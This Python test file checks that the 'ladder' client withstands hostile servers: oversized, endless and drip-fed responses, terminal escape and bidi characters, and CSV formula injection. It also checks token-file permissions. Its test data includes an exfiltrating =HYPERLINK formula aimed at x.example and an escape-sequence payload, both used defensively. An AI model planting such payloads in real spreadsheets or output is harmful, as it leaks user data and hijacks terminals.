"""A server that means ill, and what others wrote: `ladder` spends little on it and shows it
plainly."""

import json
import os
import pty
import re
import select
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import unittest
from pathlib import Path

import harness
from harness import OwnDaemon, assessed, day, event, settled
from test_confined import WATCHED
from test_push_stream import wire_reply

MIB = 1 << 20
MEMORY_MAX = (400 if WATCHED else 48) * MIB
# What a terminal would obey, or show turned round; ladder itself writes \r and \n.
OBEYED = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e"
                    "\u2066-\u2069]")
EVIL = "A\x1b[2J\x07\u009b31m\u202eB\u2066\u200f\u061c\x7f"
LISTED = EVIL.replace("\u009b", "")  # a list with that is refused: another program spoilt it
FORMULA = '=HYPERLINK("http://x.example/"&A1;"see")'


# Starts a program and says what it took. What is measured of a process begins with what its
# parent had: so a small one starts it.
MEASURE = """
import os, sys
pid = os.spawnv(os.P_NOWAIT, sys.argv[2], sys.argv[2:])
_, status, usage = os.wait4(pid, 0)
with open(sys.argv[1], "w") as file:
    file.write(f"{os.waitstatus_to_exitcode(status)} {usage.ru_maxrss * 1024}")
"""


def run(*arguments, env=None):
    """Runs `ladder`; gives its exit code, what it said, the most memory, the seconds."""
    with tempfile.NamedTemporaryFile("r") as result:
        begin = time.monotonic()
        # The surroundings are the program's alone.
        variables = [] if env is None else [
            f"{name}={value}" for name, value in env.items() if os.environ.get(name) != value]
        program = [shutil.which("env"), *variables] if variables else []
        done = subprocess.run(
            [sys.executable, "-I", "-S", "-c", MEASURE, result.name,
             *map(str, (*program, harness.LADDER, *arguments))],
            stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
            timeout=90)
        code, memory = map(int, result.read().split())
        return code, done.stdout.decode(errors="replace"), memory, time.monotonic() - begin


def on_terminal(*arguments, stdin=b""):
    """What a terminal gets of `ladder`, both of its outputs."""
    ours, theirs = pty.openpty()
    process = subprocess.Popen([str(one) for one in (harness.LADDER, *arguments)],
                               stdin=subprocess.PIPE, stdout=theirs, stderr=theirs)
    os.close(theirs)
    process.stdin.write(stdin)
    process.stdin.close()
    shown, deadline = b"", time.monotonic() + harness.WAIT
    while time.monotonic() < deadline:
        if not select.select([ours], [], [], 0.5)[0]:
            continue
        try:
            piece = os.read(ours, 65536)
        except OSError:  # Linux's end of a terminal
            break
        if not piece:
            break
        shown += piece
    os.close(ours)
    process.wait(harness.WAIT)
    return shown


class Hostile(unittest.TestCase):
    longMessage = True

    def setUp(self):
        self.place = Path(tempfile.mkdtemp(prefix="hostile-server-"))
        self.addCleanup(shutil.rmtree, self.place, True)
        self.token = self.place / "token"
        self.token.write_text("A" * 43 + "\n")
        self.token.chmod(0o600)
        self.events = self.place / "events.ndjson"
        self.write_events(1)

    def write_events(self, count):
        self.events.write_text("".join(json.dumps(event()) + "\n" for _ in range(count)))

    def fast(self):
        """The surroundings in which a second is a minute."""
        if WATCHED or shutil.which("cc") is None:
            self.skipTest("no C compiler, or a sanitizer wants to be the first library")
        library = self.place / "fast_clock.so"
        subprocess.run(["cc", "-shared", "-fPIC", "-O1", "-o", library,
                        harness.HERE / "fast_clock.c"], check=True, timeout=60)
        return {**os.environ, "LD_PRELOAD": str(library)}

    def serve(self, talk):
        """A server that talks so to everybody who comes; gives its port."""
        listener = socket.create_server(("127.0.0.1", 0))

        def one(client):
            with client:
                try:
                    talk(client)
                except OSError:
                    pass

        def accept():
            while True:
                try:
                    client = listener.accept()[0]
                except OSError:
                    return
                threading.Thread(target=one, args=(client,), daemon=True).start()
        threading.Thread(target=accept, daemon=True).start()
        self.addCleanup(listener.close)
        self.addCleanup(lambda: listener.shutdown(socket.SHUT_RDWR))
        return listener.getsockname()[1]

    def push(self, port, *arguments, **options):
        return run("push", "--to", f"http://127.0.0.1:{port}", "--token-file", self.token,
                   "--retry-seconds", "1", *arguments, self.events, **options)

    def stream(self, port, *arguments, **options):
        return run("push", "--via", "stream", "--to", f"tcp://127.0.0.1:{port}", "--token-file",
                   self.token, "--retry-seconds", "1", *arguments, self.events, **options)

    def worklist(self, port, *arguments, **options):
        return run("worklist", "--to", f"http://127.0.0.1:{port}", "--token-file", self.token,
                   *arguments, **options)


def received(client):
    """Takes a whole request."""
    client.settimeout(harness.WAIT)
    got = b""
    while b"\r\n\r\n" not in got:
        piece = client.recv(65536)
        if not piece:
            return
        got += piece
    head, body = got.split(b"\r\n\r\n", 1)
    length = re.search(rb"(?i)content-length: *(\d+)", head)
    left = (int(length[1]) if length else 0) - len(body)
    while left > 0:
        left -= len(client.recv(min(left, 65536)))


def answer(status, body, size=None, media_type="application/json"):
    """Answers so: `body` over and over until `size` bytes are sent."""
    def talk(client):
        received(client)
        whole = len(body) if size is None else size
        client.sendall(f"HTTP/1.1 {status} X\r\nContent-Type: {media_type}\r\n"
                       f"Content-Length: {whole}\r\n\r\n".encode())
        piece = (body * (65536 // len(body) + 1)) if size is not None else body
        for _ in range(whole // len(piece) + 1):
            client.sendall(piece)
    return talk


class Size(Hostile):
    def assertCheap(self, done, code, memory=MEMORY_MAX):
        found, said, used, seconds = done
        self.assertEqual(found, code, said[-500:])
        self.assertLess(used, memory, said[-300:])
        self.assertLess(seconds, 30, said[-300:])
        self.assertIsNone(OBEYED.search(said))

    def test_sixty_megabytes_about_one_event_are_not_taken(self):
        for body in b"[],", b'{"a":[', b'"x",', b"\x1a\x00":
            with self.subTest(body):
                port = self.serve(answer(200, body, 60 * MIB))
                self.assertCheap(self.push(port), 69)

    def test_nor_as_the_body_of_an_error(self):
        for status in 400, 401, 413, 500, 503:
            with self.subTest(status):
                self.assertCheap(self.push(self.serve(answer(status, b"[],", 60 * MIB))), 69)

    def test_nor_without_a_length(self):
        def talk(client):
            received(client)
            client.sendall(b"HTTP/1.1 200 X\r\nTransfer-Encoding: chunked\r\n\r\n")
            while True:
                client.sendall(b"10000\r\n" + b"[],x" * 16384 + b"\r\n")
        self.assertCheap(self.push(self.serve(talk)), 69)

    def test_headers_without_end_are_not_taken(self):
        def one_by_one(client):
            received(client)
            client.sendall(b"HTTP/1.1 200 X\r\n")
            while True:
                client.sendall(b"X-Header: %s\r\n" % (b"x" * 1000) * 60)

        def a_long_one(client):
            received(client)
            client.sendall(b"HTTP/1.1 200 X\r\nX-Header: ")
            while True:
                client.sendall(b"x" * 65536)
        for talk in one_by_one, a_long_one:
            self.assertNotEqual(self.push(self.serve(talk))[0], 0)
            self.assertLess(self.push(self.serve(talk))[2], MEMORY_MAX)

    def test_an_answer_as_long_as_the_batch_allows_costs_no_more_than_that(self):
        self.write_events(10000)
        for body in b"[],", b'{"":0},', b'"",':
            with self.subTest(body):
                port = self.serve(answer(200, b'{"rejected":[' + body * 9000000))
                self.assertCheap(self.push(port, "--batch", "10000"), 69, 150 * MIB)
                port = self.serve(answer(200, b'{"rejected":[' + body * 2000000 + b"0]}"))
                self.assertCheap(self.push(port, "--batch", "10000"), 76, 150 * MIB)

    def test_more_rejections_than_events_are_no_answer(self):
        whole = {"accepted": 0, "duplicates": 0, "last_seq": 1}
        row = {"index": 0, "id": "x", "code": "bad_value", "message": "x"}
        for rejected in [row] * 2, [row] * 30:
            port = self.serve(answer(200, json.dumps({**whole, "rejected": rejected}).encode()))
            self.assertCheap(self.push(port), 76)

    def test_a_work_list_without_end_is_not_taken(self):
        for body in b"[],", b'{"subject":"x"},':
            with self.subTest(body):
                self.assertCheap(self.worklist(self.serve(
                    answer(200, b'{"items":[' + body, 63 * MIB))), 69, 160 * MIB)
        self.assertCheap(self.worklist(self.serve(answer(200, b"[],", 60 * MIB)), "--limit",
                                       "10"), 69)
        self.assertCheap(self.worklist(self.serve(
            answer(200, b'{"items":[' + b"[]," * 9000000 + b"0]}"))), 76, 160 * MIB)


class Stream(Hostile):
    assertCheap = Size.assertCheap

    def welcomed(self, after):
        """Welcomes, takes a batch whole, and goes on so."""
        welcome = wire_reply(1, harness.proto().StreamWelcome(
            protocol_version=1, limits=harness.proto().StreamLimits(
                message_bytes_max=1 << 23, batch_events_max=10000,
                pipelined_batches_max=64)).SerializeToString())

        def talk(client):
            client.settimeout(harness.WAIT)
            client.recv(65536)
            client.sendall(welcome)
            client.recv(65536)
            after(client)
        return self.serve(talk)

    def test_a_reply_longer_than_any_is_refused_at_its_first_byte(self):
        def after(client):
            client.sendall(harness.varint(60 * MIB))
            while True:
                client.sendall(b"\x00" * 65536)
        self.assertCheap(self.stream(self.welcomed(after)), 76)

    def test_so_is_a_welcome_without_end(self):
        def talk(client):
            client.recv(65536)
            client.sendall(harness.varint(60 * MIB))
            while True:
                client.sendall(b"\x00" * 65536)
        self.assertCheap(self.stream(self.serve(talk)), 76)

    def test_who_talks_without_answering_is_left(self):
        def after(client):
            while True:
                client.sendall(wire_reply(3, b"") * 1000)
        self.assertCheap(self.stream(self.welcomed(after)), 76)

    def test_who_answers_drop_by_drop_is_left(self):
        def after(client):
            client.sendall(harness.varint(20000))
            while True:
                client.sendall(b"\x00")
                time.sleep(0.05)
        done = self.stream(self.welcomed(after), env=self.fast())
        self.assertCheap(done, 69)
        self.assertIn("no whole answer for a minute", done[1])

    def test_who_sends_a_word_now_and_then_instead_of_an_answer_is_left(self):
        def after(client):
            while True:
                client.sendall(wire_reply(3, b""))
                time.sleep(0.05)
        done = self.stream(self.welcomed(after), env=self.fast())
        self.assertCheap(done, 69)


class Drip(Hostile):
    assertCheap = Size.assertCheap

    def test_an_answer_drop_by_drop_ends_with_its_time(self):
        def talk(client):
            received(client)
            client.sendall(b"HTTP/1.1 200 X\r\nContent-Length: 60000\r\n\r\n")
            while True:
                client.sendall(b" ")
                time.sleep(0.05)
        environment = self.fast()
        port = self.serve(talk)
        self.assertCheap(self.push(port, env=environment), 69)
        self.assertCheap(self.worklist(port, env=environment), 69)


class Terminal(Hostile):
    """Nothing that others wrote makes a terminal do anything."""

    def assertPlain(self, shown, *words):
        text = shown.decode()  # it is UTF-8
        self.assertIsNone(OBEYED.search(text), ascii(text))
        for word in words:
            self.assertIn(word, text)

    def command(self, *arguments):
        return on_terminal(*arguments)

    def pushed(self, port, *arguments):
        return on_terminal("push", "--to", f"http://127.0.0.1:{port}", "--token-file", self.token,
                           "--retry-seconds", "1", *arguments, self.events)

    def test_of_a_problem(self):
        for status in 400, 401, 503:
            body = json.dumps({"title": EVIL, "detail": "detail" + EVIL}).encode()
            for data in body, body.replace(b"\\u001b", b"\x1b"), \
                    json.dumps({"title": EVIL, "detail": "detail"}, ensure_ascii=False).encode():
                shown = self.pushed(self.serve(answer(status, data)))
                self.assertPlain(shown, str(status))

    def test_of_a_rejection(self):
        row = {"index": 0, "id": EVIL, "code": "code" + EVIL, "field": EVIL, "message": EVIL}
        port = self.serve(answer(200, json.dumps({
            "accepted": 0, "duplicates": 0, "last_seq": 1, "rejected": [row]}).encode()))
        self.assertPlain(self.pushed(port), "code", "A?[2J??31m?B")
        self.assertPlain(self.pushed(port, "--rejects", "-"), "code")

    def test_of_a_rejected_line_that_goes_to_the_terminal(self):
        port = self.serve(answer(200, b"{}"))
        self.events.write_bytes(b"no json \x1b[31m \xc2\x9b31m \xe2\x80\xae \xff\n")
        self.assertPlain(self.pushed(port, "--rejects", "-"))

    def test_of_an_error_of_the_stream(self):
        def talk(client):
            client.recv(65536)
            client.sendall(wire_reply(4, harness.proto().StreamError(
                code="code" + EVIL, message="message" + EVIL).SerializeToString()))
        port = self.serve(talk)
        self.assertPlain(on_terminal(
            "push", "--via", "stream", "--to", f"tcp://127.0.0.1:{port}", "--token-file",
            self.token, "--retry-seconds", "1", self.events), "code", "message")

    def test_of_names_of_files_and_options(self):
        odd = os.fsdecode(b"odd\x1b[31m\xe2\x80\xae\xff")
        (self.place / odd).write_text("{}")
        for arguments in (["push", "--token-file", self.place / odd, self.events],
                          ["push", "--token-file", self.token, self.place / (odd + ".none")],
                          ["push", "--" + odd], [odd], ["verify", self.place / odd],
                          ["import", "--map", odd, self.place / odd],
                          ["replay", self.place / odd], ["log", self.place / odd],
                          ["report", self.place / odd], ["backup", self.place / odd, "x"],
                          ["worklist", "--token-file", self.token, "--subjects",
                           self.place / odd]):
            with self.subTest(arguments[0]):
                self.assertPlain(self.command(*arguments), "ladder")

    def test_of_an_option_or_a_path_that_the_daemon_is_given(self):
        odd = "--odd\x1b[31m\u202e"
        for arguments in [odd], ["--config", "/none/" + odd], ["--set", "store." + odd + "=1"]:
            done = harness.run(harness.LADDERD, *arguments)
            self.assertIn(done.returncode, (64, 66, 78), done)
            self.assertPlain(done.stderr, "odd")

    def test_of_a_work_list(self):
        row = {"subject": "s" + LISTED, "municipality": EVIL, "reason": EVIL, "since": EVIL,
               "days": 3, "falls_silent_on": EVIL, "ref": EVIL}
        port = self.serve(answer(200, json.dumps({
            "as_of": EVIL, "partner": EVIL, "total": 1, "items": [row]},
            ensure_ascii=False).encode()))
        names = self.place / "names.csv"
        names.write_text(f"name;subject\nN{LISTED};s{LISTED}\n")
        for format in "table", "csv", "json":
            for more in [], ["--subjects", names]:
                with self.subTest(format):
                    self.assertPlain(self.command(
                        "worklist", "--to", f"http://127.0.0.1:{port}", "--token-file",
                        self.token, "--format", format, *more), "3")
        done = self.worklist(port, "--format", "csv")
        self.assertIn("\x1b[2J", done[1], "a file gets what there is")

    def test_of_the_cells_and_headings_of_a_list(self):
        sheet = self.place / "list.csv"
        sheet.write_text(f"Naam;Datum;Activiteit;Uren;Odd{LISTED}\n"
                         f"A{LISTED};3-4-2025{LISTED};Taal{LISTED};2{LISTED};x\n"
                         f"B{LISTED};3-4-2025;Taal{LISTED};2;x\n")
        self.assertPlain(self.command(
            "import", "--map", "activity-hours", "--municipality", "GM0823", "--dry-run",
            "--subjects", self.place / "subjects.csv", sheet), "Odd")

    def test_of_a_map(self):
        rules = self.place / "map.ini"
        rules.write_text(f"[{EVIL}]\n{EVIL} = {EVIL}\n")
        (self.place / "list.csv").write_text("a;b\n1;2\n")
        self.assertPlain(self.command(
            "import", "--map", rules, "--municipality", "GM0823", "--dry-run", "--subjects",
            self.place / "subjects.csv", self.place / "list.csv"), "map.ini:")


class Spreadsheet(OwnDaemon):
    """A cell that begins like a formula is text to a spreadsheet program."""

    def test_a_work_list_has_no_formula(self):
        daemon = self.ladderd()
        daemon.accept(*(one for subject in ("-x-1", "plain-1", "-5") for one in
                        (settled(subject, day(-400)), assessed(subject, day(-200), 3))))

        def list_of():
            text = daemon.get("/v1/worklist", who="isd", headers={"Accept": "text/csv"}).body
            return text.decode() if text.count(b"\n") > 3 else None
        rows = harness.until(list_of, "the work list")
        names = daemon.place / "names.csv"
        names.write_text(f"name;subject\n\"{FORMULA.replace(chr(34), 2 * chr(34))}\";plain-1\n"
                         "@SUM(A1);-x-1\n")
        done = harness.ladder("worklist", "--to", f"http://127.0.0.1:{daemon.port}",
                              "--token-file", daemon.token_file("isd"), "--format", "csv",
                              "--subjects", names, check=0)
        mine = done.stdout.decode()
        for text in rows, mine:
            self.assertIn("'-x-1,", text)
            self.assertRegex(text, r"(^|[,\n])plain-1,")
            self.assertRegex(text, r"(\n|,)-5,")
            self.assertNotRegex(text, r"(^|[,;\n\"])[=+@\t\r]")
        self.assertIn("\"'=HYPERLINK(", mine)
        self.assertIn("'@SUM(A1),'-x-1,", mine)

    def test_rejected_rows_have_none_and_are_read_back_as_they_were(self):
        daemon, place = self.ladderd(), self.place()
        sheet = place / "uren.csv"
        quoted = FORMULA.replace('"', '""')
        sheet.write_text("Naam;Datum;Activiteit;Uren;Opmerking\r\n"
                         f"=A1;32-4-2025;Taalcafé;2;\"{quoted}\"\r\n"
                         "-B;32-4-2025;Taalcafé;2;'=1\r\n"
                         "C;32-4-2025;Taalcafé;2;-5\r\n")

        def imported(file, code):
            return harness.ladder(
                "import", "--map", "activity-hours", "--municipality", "GM0823", "--to",
                f"http://127.0.0.1:{daemon.port}", "--token-file", daemon.token_file("isd"),
                "--subjects", place / "subjects.csv", file, check=code)
        imported(sheet, 1)
        first = (place / "uren.rejected.csv").read_text(encoding="utf-8-sig")
        for wanted in ("\"'=A1\"", f"\"'{quoted}\"", "\"'-B\"", "\"''=1\"", "\"-5\""):
            self.assertIn(wanted, first)
        self.assertNotRegex(first, r"(^|[;\n])\"?[=+@]")
        imported(place / "uren.rejected.csv", 1)
        second = (place / "uren.rejected.rejected.csv").read_text(encoding="utf-8-sig")

        def cells(text):
            return [line.split(";\"")[:4] for line in text.splitlines()]
        self.assertEqual([row[:3] for row in cells(second)], [row[:3] for row in cells(first)])
        self.assertIn("\"''=1\"", second)
        self.assertNotIn("\"'''=1\"", second)
        corrected = (place / "uren.rejected.csv").read_bytes().replace(b"32-4", b"3-4")
        (place / "uren.rejected.csv").write_bytes(corrected)
        imported(place / "uren.rejected.csv", 0)
        people = (place / "subjects.csv").read_text(encoding="utf-8-sig")
        self.assertIn("\"'=A1\"", people)
        self.assertNotRegex(people, r"(^|[;\n])\"?[=+@]")
        # The same people, also from the list as it was.
        sheet.write_text(sheet.read_text().replace("32-4", "3-4"))
        imported(sheet, 0)
        self.assertEqual((place / "subjects.csv").read_text(encoding="utf-8-sig"), people)


class TokenFiles(Hostile):
    """Every command that shows a token takes no file that others can read."""

    def test_a_token_file_of_others_is_refused_by_every_command(self):
        sheet = self.place / "list.csv"
        sheet.write_text("Naam;Datum;Activiteit;Uren\nA;3-4-2025;Taalcafé;2\n")
        commands = (
            ["push", self.events],
            ["push", "--via", "stream", self.events],
            ["worklist"],
            ["import", "--map", "activity-hours", "--municipality", "GM0823", "--subjects",
             self.place / "subjects.csv", sheet],
        )
        self.token.chmod(0o644)
        link = self.place / "link"
        link.symlink_to(self.token)
        for command in commands:
            for file in self.token, link:
                with self.subTest(command[0]):
                    code, said, _, _ = run(*command, "--token-file", file)
                    self.assertEqual(code, 77, said)
                    self.assertIn("token file", said)
            code, said, _, _ = run(*command, env={**os.environ, "LADDER_TOKEN_FILE": str(link)})
            self.assertEqual(code, 77, said)

    def test_so_is_a_key_of_others(self):
        key, certificate = self.place / "client.key", self.place / "client.pem"
        for file in key, certificate:
            file.write_text("none")
            file.chmod(0o644)
        for command in (["push", self.events], ["worklist"],
                        ["import", "--map", "activity-hours", "--municipality", "GM0823",
                         "--subjects", self.place / "subjects.csv", self.events]):
            with self.subTest(command[0]):
                code, said, _, _ = run(*command, "--to", "https://127.0.0.1:1", "--token-file",
                                       self.token, "--cert", certificate, "--key", key)
                self.assertEqual(code, 77, said)
                self.assertIn("The key", said)

    def test_every_option_that_names_a_secret_is_looked_at_here(self):
        named = set()
        for command in ("push", "import", "worklist", "replay", "log", "verify", "backup",
                        "generate", "report", "token"):
            helped = harness.ladder(command, "--help").stdout.decode()
            named |= {(command, option) for option in
                      re.findall(r"^ +(?:-\w, )?--([\w-]*(?:token|key|secret)[\w-]*)", helped, re.M)}
        self.assertEqual(named, {(command, option) for command in ("push", "import", "worklist")
                                 for option in ("token-file", "key")})


if __name__ == "__main__":
    unittest.main()
